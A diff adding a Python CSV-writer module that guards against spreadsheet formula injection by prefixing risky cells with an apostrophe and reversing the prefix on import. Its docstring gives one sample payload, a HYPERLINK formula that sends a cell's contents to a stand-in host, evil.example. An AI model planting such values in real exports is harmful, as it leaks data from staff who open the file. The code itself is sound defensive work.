@@ -1,0 +1,49 @@
+"""The one CSV writer of the tracker: no cell it writes runs as a formula in a spreadsheet.
+
+A cell that starts with =, +, -, @, a tab or a carriage return is a formula (or becomes one)
+in Excel, LibreOffice and Google Sheets ("CSV injection"): an e-mail such as
+=HYPERLINK("http://evil.example/"&A2,"x")@evil.example would run when staff open the export.
+Such a cell is written with a leading apostrophe, which spreadsheets show as plain text. A
+cell that already starts with apostrophes before one of those characters gets one more, so
+`restore` (used by the completions import) gives back exactly what was written.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _needs_quote(text: str) -> bool:
+    """Whether a spreadsheet could read the text (after any apostrophes) as a formula."""
+    return text.lstrip("'")[:1] in FORMULA_STARTS and (
+        text[:1] in FORMULA_STARTS or text[:1] == "'"
+    )
+
+
+def neutralise(value: object) -> str:
+    """A cell a spreadsheet shows as text, never runs."""
+    text = "" if value is None else str(value)
+    return "'" + text if _needs_quote(text) else text
+
+
+def restore(text: str) -> str:
+    """The value `neutralise` was given, from the cell it wrote (other text unchanged)."""
+    if text[:1] == "'" and _needs_quote(text[1:]):
+        return text[1:]
+    return text
+
+
+def write_csv(
+    header: Iterable[object], rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n"
+) -> str:
+    """A whole CSV document: the header and every row, each cell neutralised."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator=lineterminator)
+    writer.writerow([neutralise(cell) for cell in header])
+    for row in rows:
+        writer.writerow([neutralise(cell) for cell in row])
+    return out.getvalue()
